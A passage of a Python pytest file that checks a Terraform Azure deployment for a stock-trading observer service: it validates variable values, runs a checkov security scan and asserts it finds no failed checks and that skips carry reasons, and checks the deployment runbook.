def test_other_validations_refuse(cfg: Config, name: str, value: Any) -> None:
    assert refusals(cfg, name, value), f"{name} accepted {value!r}"


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("release_repo_url", ""),
        ("release_repo_url", "https://github.com/OWNER/stock-trading-observer.git"),
        ("release_repo_url", "https://git.example.com:8443/team/observer"),
        ("release_ref", "v1.2.3"),
        ("release_ref", "release/2026-01"),
        ("release_ref", "0123456789abcdef0123456789abcdef01234567"),
        ("admin_ssh_public_key", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB0x+/= me@pc\n"),
        ("admin_ssh_public_key", "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ=="),
        ("admin_username", "kim_ops"),
        ("os_disk_size_gb", 256),
    ],
)
def test_other_validations_accept(cfg: Config, name: str, value: Any) -> None:
    assert refusals(cfg, name, value) == []


def test_defaults_pass_their_own_validations(cfg: Config) -> None:
    for name, var in cfg.variables.items():
        if "default" in var and var["default"] is not None and var.get("validation"):
            assert refusals(cfg, name, var["default"]) == [], name


def test_tfvars_example_sets_required_variables_and_passes_validation(cfg: Config) -> None:
    example = _load(TF / "terraform.tfvars.example")
    assert set(example) <= set(cfg.variables), set(example) - set(cfg.variables)
    required = {n for n, v in cfg.variables.items() if "default" not in v}
    assert required <= set(example), f"example misses required {required - set(example)}"
    for name, value in example.items():
        assert refusals(cfg, name, value) == [], (name, value)


# ---------------------------------------------------------------------------------------------
# checkov
# ---------------------------------------------------------------------------------------------

_SKIP = re.compile(r"#\s*checkov:skip=([A-Z0-9_]+)(?::(.*))?")


def test_every_checkov_skip_is_justified_inline() -> None:
    for path in TF.glob("*.tf"):
        for line in path.read_text(encoding="utf-8").splitlines():
            m = _SKIP.search(line)
            if m:
                reason = (m.group(2) or "").strip()
                assert len(reason.split()) >= 5, (
                    f"{path.name}: skip of {m.group(1)} needs a reason: {line.strip()}"
                )


def test_checkov_reports_no_failed_checks() -> None:
    if not CHECKOV.exists():
        pytest.fail(f"{CHECKOV} missing: run ./install.sh --dev (checkov needs its own venv)")
    # Without --quiet the JSON lists passed and skipped checks too, so the test can see that the scan
    # covered the resources and that skips carry their reasons.
    res = subprocess.run(
        [
            str(CHECKOV),
            "-d",
            "terraform",
            "--framework",
            "terraform",
            "--compact",
            "--skip-download",
            "-o",
            "json",
        ],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert res.stdout.strip(), f"checkov printed nothing (rc={res.returncode}): {res.stderr[-2000:]}"
    report = json.loads(res.stdout)
    assert isinstance(report, dict), "expected one report for the one framework"
    summary, results = report["summary"], report["results"]
    failed = [f"{c['check_id']} {c['resource']}: {c['check_name']}" for c in results.get("failed_checks", [])]
    assert summary["failed"] == 0 and not failed, "checkov failed checks:\n" + "\n".join(failed)
    assert summary["parsing_errors"] == 0
    assert res.returncode == 0, res.stderr[-2000:]
    # the scan really covered the configuration
    scanned = {
        c["resource"].split(".")[0] for k in ("passed_checks", "skipped_checks") for c in results.get(k, [])
    }
    for rtype in (
        "azurerm_linux_virtual_machine",
        "azurerm_network_security_group",
        "azurerm_network_interface",
        "azurerm_subnet",
    ):
        assert rtype in scanned, f"checkov checked nothing on {rtype}"
    assert summary["passed"] >= 10
    ssh_rule = [c for c in results.get("passed_checks", []) if c["check_id"] == "CKV_AZURE_10"]
    assert ssh_rule, "checkov's SSH-from-Internet rule (CKV_AZURE_10) must run and pass"
    for c in results.get("skipped_checks", []):
        reason = (c.get("check_result") or {}).get("suppress_comment") or ""
        assert len(reason.split()) >= 5, f"skip of {c['check_id']} on {c['resource']} has no real reason"


# ---------------------------------------------------------------------------------------------
# Documentation
# ---------------------------------------------------------------------------------------------


def test_deployment_doc_has_the_terraform_runbook() -> None:
    doc = (REPO / "docs" / "deployment.md").read_text(encoding="utf-8")
    assert re.search(r"^#+ Terraform \(Azure\)", doc, re.M)
    assert re.search(r"^#+ systemd units", doc, re.M)
    for needle in (
        "terraform init",
        "terraform plan",
        "terraform apply",
        "observer-preflight",
        "systemctl list-timers 'observer-*'",
        "/etc/observer/secrets.env",
        "custom_data",
    ):
        assert needle in doc, needle
